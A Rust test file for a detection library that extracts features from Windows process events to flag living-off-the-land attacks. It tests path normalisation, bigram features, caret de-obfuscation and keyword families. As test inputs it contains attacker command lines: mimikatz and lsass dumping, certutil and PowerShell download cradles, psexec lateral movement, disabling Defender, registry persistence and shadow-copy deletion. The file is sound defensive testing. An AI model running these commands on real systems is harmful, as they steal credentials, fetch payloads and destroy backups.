//! One golden test per rule of the spec (sections 2–3), with inputs at each rule's edge.

use lotl_events::ProcessEvent;
use lotl_features::elastic::{blocklist_hit, normalized_command_line, ElasticRecipe, Generation};
use lotl_features::{FeatureRecipe, FeatureRow, FeatureValue};

fn run(g: Generation, e: &ProcessEvent) -> (ElasticRecipe, FeatureRow) {
    let r = ElasticRecipe::new(g);
    let mut row = FeatureRow::new();
    r.featurize(e, &mut row);
    (r, row)
}

fn cat(g: Generation, e: &ProcessEvent, name: &str) -> Option<String> {
    let (r, row) = run(g, e);
    match row.value(r.features(), name) {
        Some(FeatureValue::Cat(v)) => v.map(str::to_owned),
        other => panic!("{name}: not categorical: {other:?}"),
    }
}

fn num(g: Generation, e: &ProcessEvent, name: &str) -> f32 {
    let (r, row) = run(g, e);
    match row.value(r.features(), name) {
        Some(FeatureValue::Num(v)) => v,
        other => panic!("{name}: not numeric: {other:?}"),
    }
}

fn cl(s: &str) -> ProcessEvent {
    ProcessEvent {
        process_command_line: Some(s.into()),
        ..Default::default()
    }
}

const Y21: Generation = Generation::Y2021;
const Y26: Generation = Generation::Y2026;

#[test]
fn feature_counts_match_the_published_models() {
    assert_eq!(ElasticRecipe::new(Y21).features().len(), 476);
    assert_eq!(ElasticRecipe::new(Y26).features().len(), 485);
    // Row lengths agree with the schema.
    let (r, row) = run(Y26, &ProcessEvent::default());
    assert_eq!(row.numeric().len(), r.n_numeric());
    assert_eq!(row.n_categorical(), r.n_categorical());
}

#[test]
fn fallbacks_to_unknown() {
    let e = ProcessEvent::default();
    for f in ["event_action", "elevation_type", "integrity_level"] {
        assert_eq!(cat(Y21, &e, f).as_deref(), Some("unknown"), "{f}");
    }
    assert_eq!(
        cat(Y21, &e, "process_name_2-gram_feature0").as_deref(),
        Some("un")
    );
    assert_eq!(
        cat(Y21, &e, "command_line_2-gram_feature6").as_deref(),
        Some("")
    );
    assert_eq!(cat(Y21, &e, "command_line_2-gram_feature7"), None);
    assert_eq!(cat(Y21, &e, "normalized_ppath").as_deref(), Some("unknown"));
    // Empty strings count as absent.
    let e = ProcessEvent {
        process_name: Some(String::new().into()),
        ..Default::default()
    };
    assert_eq!(
        cat(Y21, &e, "process_name_2-gram_feature0").as_deref(),
        Some("un")
    );
}

#[test]
fn command_line_falls_back_to_joined_args() {
    let e = ProcessEvent {
        process_args: vec!["A.exe".into(), "/X".into()],
        ..Default::default()
    };
    let (n, _) = normalized_command_line(&e, Y21);
    assert_eq!(n, "a.exe /x");
    let e = ProcessEvent {
        process_command_line: Some(String::new().into()),
        process_args: vec!["b".into()],
        ..Default::default()
    };
    assert_eq!(normalized_command_line(&e, Y21).0, "b");
}

#[test]
fn lower_casing_applies_to_command_and_paths_not_names() {
    let e = ProcessEvent {
        process_name: Some("CMD.EXE".into()),
        process_executable: Some(r"C:\X\CMD.EXE".into()),
        process_command_line: Some("CMD /C".into()),
        ..Default::default()
    };
    assert_eq!(
        cat(Y21, &e, "process_name_2-gram_feature0").as_deref(),
        Some("CM")
    );
    assert_eq!(
        cat(Y21, &e, "process_executable_2-gram_feature0").as_deref(),
        Some("c:")
    );
    assert_eq!(
        cat(Y21, &e, "command_line_2-gram_feature0").as_deref(),
        Some("cm")
    );
    // ends_with_exe is a case-sensitive contains test.
    assert_eq!(num(Y21, &e, "ends_with_exe"), 0.0);
}

#[test]
fn ends_with_exe_is_a_contains_test() {
    let with = |n: &str| ProcessEvent {
        process_name: Some(n.into()),
        ..Default::default()
    };
    assert_eq!(num(Y21, &with("cmd.exe"), "ends_with_exe"), 1.0);
    assert_eq!(num(Y21, &with("a.exe.bak"), "ends_with_exe"), 1.0);
    assert_eq!(num(Y21, &with("cmd"), "ends_with_exe"), 0.0);
    // A name without ".exe": bigrams stop at the name's own length.
    let e = with("cmd");
    assert_eq!(
        cat(Y21, &e, "process_name_2-gram_feature1").as_deref(),
        Some("md")
    );
    assert_eq!(
        cat(Y21, &e, "process_name_2-gram_feature2").as_deref(),
        Some("")
    );
    assert_eq!(cat(Y21, &e, "process_name_2-gram_feature3"), None);
}

#[test]
fn filename_mismatch_and_system_user() {
    let e = ProcessEvent {
        process_name: Some("svch0st.exe".into()),
        process_pe_original_file_name: Some("svchost.exe".into()),
        user_id: Some("S-1-5-19".into()),
        ..Default::default()
    };
    assert_eq!(num(Y21, &e, "filename_mismatch"), 1.0);
    assert_eq!(num(Y21, &e, "running_as_system"), 1.0);
    // Both absent: "unknown" == "unknown".
    assert_eq!(num(Y21, &ProcessEvent::default(), "filename_mismatch"), 0.0);
    let e = ProcessEvent {
        user_id: Some("S-1-5-21-1-2-3-1001".into()),
        ..Default::default()
    };
    assert_eq!(num(Y21, &e, "running_as_system"), 0.0);
}

#[test]
fn elevated_signed_trusted_fallbacks() {
    let e = ProcessEvent {
        elevation_type: Some("limited".into()),
        ..Default::default()
    };
    assert_eq!(
        num(Y21, &e, "elevated"),
        1.0,
        "present elevation type means elevated"
    );
    let e = ProcessEvent {
        elevation_type: Some("full".into()),
        elevated: Some(false),
        ..Default::default()
    };
    assert_eq!(num(Y21, &e, "elevated"), 0.0, "the sensor's own word wins");
    assert_eq!(num(Y21, &ProcessEvent::default(), "elevated"), 0.0);
    assert_eq!(num(Y21, &ProcessEvent::default(), "signed"), 0.0);
    let e = ProcessEvent {
        process_code_signature_exists: Some(true),
        process_code_signature_trusted: Some(true),
        ..Default::default()
    };
    assert_eq!(num(Y21, &e, "signed"), 1.0);
    assert_eq!(num(Y21, &e, "signer_trusted"), 1.0);
}

#[test]
fn path_class_first_match_order() {
    let ex = |p: &str| ProcessEvent {
        process_executable: Some(p.into()),
        ..Default::default()
    };
    let c = |p: &str| cat(Y21, &ex(p), "normalized_ppath").unwrap_or_default();
    assert_eq!(c(r"C:\Windows\System32\cmd.exe"), "win_system_dir");
    assert_eq!(c(r"C:\Windows\Temp\a.exe"), "win_temp_dir");
    // local\temp is checked before appdata, appdata before the user dir.
    assert_eq!(
        c(r"C:\Users\Bob\AppData\Local\Temp\a.exe"),
        "win_user_appdata_local_temp"
    );
    assert_eq!(c(r"C:\Users\Bob\AppData\Local\a.exe"), "win_user_appdata");
    assert_eq!(c(r"C:\Users\Bob\Downloads\a.exe"), "win_user_downloads");
    assert_eq!(c(r"C:\Users\Bob\a.exe"), "win_user_dir");
    assert_eq!(c(r"C:\Users\a.exe"), "win_users_root_dir");
    assert_eq!(c(r"C:\Program Files\a\a.exe"), "win_program_files");
    assert_eq!(c(r"C:\ProgramData\a.exe"), "win_program_data_dir");
    assert_eq!(
        c(r"C:\System Volume Information\a.exe"),
        "win_sys_vol_info_dir"
    );
    assert_eq!(c(r"C:\$Recycle.Bin\a.exe"), "win_recycle_bin_dir");
    assert_eq!(c(r"C:\Windows\a.exe"), "win_dir");
    assert_eq!(c(r"C:\a.exe"), "win_root");
    assert_eq!(c(r"C:\tools\a.exe"), "unknown");
    // syswow64 anywhere wins over everything else.
    assert_eq!(c(r"C:\Users\Bob\SysWOW64\a.exe"), "win_system_dir");
}

#[test]
fn path_normalisation_order() {
    let e = ProcessEvent {
        process_executable: Some(r#""C:\\Users\\Bob\\AppData\\x.exe""#.into()),
        ..Default::default()
    };
    let (r, row) = run(Y21, &e);
    // Rebuild the string from its bigrams: first characters, then the last bigram's second.
    let grams: Vec<String> = (0..40)
        .filter_map(|i| {
            match row.value(
                r.features(),
                &format!("process_executable_2-gram_feature{i}"),
            ) {
                Some(FeatureValue::Cat(Some(b))) if !b.is_empty() => Some(b.to_owned()),
                _ => None,
            }
        })
        .collect();
    let mut s: String = grams.iter().filter_map(|g| g.chars().next()).collect();
    s.extend(grams.last().and_then(|g| g.chars().nth(1)));
    assert_eq!(s, r"c:\users\appdata\x.exe");
    assert_eq!(
        normalized_command_line(&cl(r"C:\Windows\System32\cmd.exe"), Y21).0,
        r"c:\win_system_dir\cmd.exe"
    );
    assert_eq!(
        normalized_command_line(&cl("c:/windows/syswow64/x"), Y21).0,
        "c:/win_system_dir/x"
    );
}

#[test]
fn guid_versus_eight_hex() {
    let n = |s: &str| normalized_command_line(&cl(s), Y21).0;
    assert_eq!(n("{6F9619FF-8B86-D011-B42D-00C04FC964FF}"), "{process_id}");
    // Three-digit groups are not GUID-like; 8 hex → hex.
    assert_eq!(n("6f9619ff-8b8-d01-b42-00c0"), "hex-8b8-d01-b42-00c0");
    assert_eq!(n("x deadbeef y"), "x hex y");
    assert_eq!(n("0xff"), "hex");
    assert_eq!(n("deadbee"), "deadbee");
    // 32 hex chars: the 8-hex rule comes first, so `hash` never appears.
    assert_eq!(n("d41d8cd98f00b204e9800998ecf8427e"), "hexhexhexhex");
    assert_eq!(n("ping -n 65535"), "ping -n num");
    assert_eq!(n("pid 1234"), "pid 1234");
}

#[test]
fn bigram_positions_with_101_char_command_line() {
    let s: String = "xy".repeat(50) + "z"; // 101 characters, no hex
    let e = cl(&s);
    assert_eq!(
        cat(Y21, &e, "command_line_2-gram_feature0").as_deref(),
        Some("xy")
    );
    assert_eq!(
        cat(Y21, &e, "command_line_2-gram_feature98").as_deref(),
        Some("xy")
    );
    // Cut to 100 characters first: the last position holds the empty string.
    assert_eq!(
        cat(Y21, &e, "command_line_2-gram_feature99").as_deref(),
        Some("")
    );
    // A 5-character line: four bigrams, then "", then missing.
    let e = cl("vwxyz");
    assert_eq!(
        cat(Y21, &e, "command_line_2-gram_feature3").as_deref(),
        Some("yz")
    );
    assert_eq!(
        cat(Y21, &e, "command_line_2-gram_feature4").as_deref(),
        Some("")
    );
    assert_eq!(cat(Y21, &e, "command_line_2-gram_feature5"), None);
    // Non-ASCII: bigrams are characters, not bytes.
    let e = cl("été");
    assert_eq!(
        cat(Y21, &e, "command_line_2-gram_feature0").as_deref(),
        Some("ét")
    );
    assert_eq!(
        cat(Y21, &e, "command_line_2-gram_feature2").as_deref(),
        Some("")
    );
}

#[test]
fn process_name_uses_positions_0_to_65() {
    let (r, _) = run(Y21, &ProcessEvent::default());
    let names: Vec<&str> = r.features().iter().map(|f| f.name.as_ref()).collect();
    assert!(names.contains(&"process_name_2-gram_feature65"));
    assert!(!names.contains(&"process_name_2-gram_feature66"));
    assert!(names.contains(&"parent_executable_2-gram_feature99"));
    assert!(!names.contains(&"parent_executable_2-gram_feature100"));
}

#[test]
fn integrity_lower_cased_only_in_2026() {
    let e = ProcessEvent {
        integrity_level: Some("High".into()),
        ..Default::default()
    };
    assert_eq!(cat(Y21, &e, "integrity_level").as_deref(), Some("High"));
    assert_eq!(cat(Y26, &e, "integrity_level").as_deref(), Some("high"));
}

#[test]
fn caret_flag_2026() {
    let e = cl("c^m^d /c whoami");
    assert_eq!(num(Y26, &e, "cmd_obfuscation"), 1.0);
    assert_eq!(normalized_command_line(&e, Y26).0, "cmd /c whoami");
    // Carets removed before the keyword flags: recon fires on the de-obfuscated text.
    assert_eq!(num(Y26, &cl("who^am^i"), "recon"), 1.0);
    // One caret: not obfuscation, but still stripped.
    let e = cl("echo a^b");
    assert_eq!(num(Y26, &e, "cmd_obfuscation"), 0.0);
    assert_eq!(normalized_command_line(&e, Y26).0, "echo ab");
    // 2021 keeps carets.
    assert_eq!(normalized_command_line(&cl("c^m^d"), Y21).0, "c^m^d");
}

#[test]
fn keyword_families_2026() {
    let f = |s: &str, fam: &str| num(Y26, &cl(s), fam);
    let cases: &[(&str, &str, f32)] = &[
        (
            "mimikatz.exe sekurlsa::logonpasswords",
            "credential_access",
            1.0,
        ),
        ("procdump -ma lsass.exe", "credential_access", 1.0),
        ("certutil -urlcache -f http://x/a a", "download_cradle", 1.0),
        (
            "powershell (new-object net.webclient).downloadstring('u')",
            "download_cradle",
            1.0,
        ),
        ("psexec \\\\host cmd", "lateral_movement", 1.0),
        (
            "wmic /node:host process call create x",
            "lateral_movement",
            1.0,
        ),
        ("wmic process list", "lateral_movement", 0.0),
        ("schtasks /s host /query", "lateral_movement", 1.0),
        // `sc` with `\\`: backslash runs are collapsed before the flags, so this cannot fire.
        ("sc \\\\host create x", "lateral_movement", 0.0),
        ("rubeus.exe asktgt /user:x", "kerberoasting", 1.0),
        ("whoami /all", "recon", 1.0),
        ("net user bob /domain", "recon", 1.0),
        ("net localgroup administrators", "recon", 1.0),
        ("net start svc", "recon", 0.0),
        (
            "powershell -exec bypass -file x.ps1",
            "defense_evasion",
            1.0,
        ),
        ("powershell -enc aqbfafga", "defense_evasion", 1.0),
        ("powershell iex(x)", "defense_evasion", 1.0),
        (
            "set-mppreference -disablerealtimemonitoring $true",
            "defense_evasion",
            1.0,
        ),
        ("schtasks /create /tn x /tr y", "persistence", 1.0),
        (
            "reg add hkcu\\software\\microsoft\\windows\\currentversion\\run /v x",
            "persistence",
            1.0,
        ),
        ("reg add hkcr\\x", "persistence", 0.0),
        ("reg add hklm\\x\\runonce", "persistence", 1.0),
        ("certutil -encode a b", "exfiltration", 1.0),
        ("powershell compress-archive a b", "exfiltration", 1.0),
        ("notepad.exe a.txt", "exfiltration", 0.0),
    ];
    for (s, fam, want) in cases {
        assert_eq!(f(s, fam), *want, "{fam} on {s:?}");
    }
    // Every family is 0 on a plain command line.
    for fam in lotl_features::elastic::FAMILIES_2026 {
        assert_eq!(f("notepad.exe a.txt", fam), 0.0, "{fam}");
    }
}

#[test]
fn blocklist_2021() {
    let n = |s: &str| normalized_command_line(&cl(s), Y21).0;
    assert!(blocklist_hit(&n("vssadmin delete shadows /all")));
    assert!(blocklist_hit(&n("powershell -ExecutionPolicy Bypass")));
    assert!(!blocklist_hit(&n("notepad.exe readme.txt")));
}
